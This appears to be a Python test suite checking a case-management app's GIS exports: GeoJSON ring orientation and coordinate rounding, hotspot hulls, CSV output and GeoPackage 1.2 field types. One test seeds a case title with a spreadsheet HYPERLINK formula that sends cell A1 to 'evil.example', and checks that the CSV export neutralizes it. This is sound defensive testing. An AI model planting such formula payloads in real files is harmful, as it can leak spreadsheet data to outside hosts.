"""Exports GIS tools and standards accept: RFC 7946 GeoJSON, safe CSV, typed GeoPackage 1.2."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import httpx
import pyogrio
import shapely
from sqlalchemy.ext.asyncio import AsyncSession

from corps.settings import Settings
from testing.factories import make_case, make_person

CLOCKWISE = {
    "type": "Polygon",
    "coordinates": [
        [[30.1, -2.1], [30.1, -2.0], [30.2, -2.0], [30.2, -2.1], [30.1, -2.1]],
    ],
}
FINE_POINT = {"type": "Point", "coordinates": [30.123456789123, -2.987654321987]}


async def export(client: httpx.AsyncClient, headers: dict[str, str], **params: str) -> bytes:
    response = await client.get("/api/v1/cases/export", params=params, headers=headers)
    assert response.status_code == 200, response.text
    return response.content


def rings(geometry: dict[str, Any]) -> list[Any]:
    shape = shapely.geometry.shape(geometry)
    polygons = list(shape.geoms) if shape.geom_type == "MultiPolygon" else [shape]
    return [p.exterior for p in polygons if p.geom_type == "Polygon"]


async def test_geojson_rings_are_counter_clockwise_coordinates_rounded_arrays_kept(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings
) -> None:
    paralegal = await make_person(db, settings, "paralegal")
    coordinator = await make_person(db, settings, "coordinator")
    await make_case(client, paralegal, geometry=CLOCKWISE, issue_types=["mining", "fisheries"])
    await make_case(client, paralegal, geometry=FINE_POINT, sensitivity="high_risk")
    scope = {"organization_id": str(paralegal.organization_id)}
    for who, level in ((paralegal, "internal"), (coordinator, "internal"), (coordinator, "public")):
        body = json.loads(await export(client, who.headers, format="geojson", level=level, **scope))
        assert body["features"], level
        for feature in body["features"]:
            assert all(ring.is_ccw for ring in rings(feature["geometry"])), (level, feature)
            props = feature["properties"]
            assert isinstance(props["issue_types"], list)
            assert props["organization_slug"] and props["organization_name"]
            if level == "internal":
                assert props["updated_at"].endswith("Z") and "T" in props["updated_at"]
    body = json.loads(await export(client, paralegal.headers, format="geojson", **scope))
    point = next(f for f in body["features"] if f["geometry"]["type"] == "Point")
    assert point["geometry"]["coordinates"] == [30.1234568, -2.9876543]
    polygon = next(f for f in body["features"] if f["geometry"]["type"] == "Polygon")
    assert polygon["properties"]["issue_types"] == ["mining", "fisheries"]


async def test_hotspot_hulls_are_counter_clockwise(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings
) -> None:
    admin = await make_person(db, settings, "admin")
    for dx, dy in ((0, 0), (0.01, 0), (0.01, 0.01), (0, 0.01)):
        await make_case(
            client, admin, geometry={"type": "Point", "coordinates": [44.0 + dx, 10.0 + dy]}
        )
    response = await client.get(
        "/api/v1/hotspots",
        params={"distance_km": 5, "min_cases": 3, "bbox": "43.9,9.9,44.1,10.1"},
        headers=admin.headers,
    )
    assert response.status_code == 200, response.text
    features = response.json()["features"]
    assert features
    assert all(ring.is_ccw for f in features for ring in rings(f["geometry"]))


async def test_a_csv_formula_cell_is_neutralized_and_arrays_use_the_separator(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings
) -> None:
    paralegal = await make_person(db, settings, "paralegal")
    await make_case(
        client,
        paralegal,
        title='=HYPERLINK("http://evil.example/?x="&A1,"open")',
        place_name="@SUM(1+1)",
        issue_types=["mining", "water_pollution"],
        geometry=FINE_POINT,
    )
    rows = list(
        csv.DictReader(
            io.StringIO((await export(client, paralegal.headers, format="csv")).decode())
        )
    )
    (row,) = rows
    assert row["title"].startswith("'=") and row["place_name"] == "'@SUM(1+1)"
    assert row["issue_types"] == "mining|water_pollution"
    assert float(row["longitude"]) == 30.1234568 and float(row["latitude"]) == -2.9876543
    assert row["organization_slug"] and "T" in row["updated_at"]


async def test_the_geopackage_is_version_1_2_with_typed_fields_and_multi_geometries(
    client: httpx.AsyncClient, db: AsyncSession, settings: Settings, tmp_path: Path
) -> None:
    paralegal = await make_person(db, settings, "paralegal")
    await make_case(client, paralegal, geometry=CLOCKWISE, people_affected=40)
    await make_case(client, paralegal, geometry=FINE_POINT, people_affected=None, opened_on=None)
    path = tmp_path / "cases.gpkg"
    path.write_bytes(await export(client, paralegal.headers, format="gpkg"))
    with sqlite3.connect(path) as gpkg:
        assert gpkg.execute("PRAGMA user_version").fetchone()[0] == 10200
    layers = {name: kind for name, kind in pyogrio.list_layers(path)}
    assert layers == {"cases": "MultiPolygon", "cases_points": "MultiPoint"}
    info = pyogrio.read_info(path, layer="cases")
    types = dict(zip(info["fields"], info["ogr_types"], strict=True))
    assert types["people_affected"] == "OFTInteger64"
    assert types["opened_on"] == "OFTDate" and types["updated_at"] == "OFTDateTime"
    assert types["generalized"] == "OFTInteger" and types["title"] == "OFTString"
    _, _, _, fields = pyogrio.raw.read(path, layer="cases")
    by_name = dict(zip(info["fields"], fields, strict=True))
    assert by_name["people_affected"][0] == 40
    assert str(by_name["opened_on"][0]) == "2026-03-01"
    points = pyogrio.read_info(path, layer="cases_points")
    assert points["features"] == 1
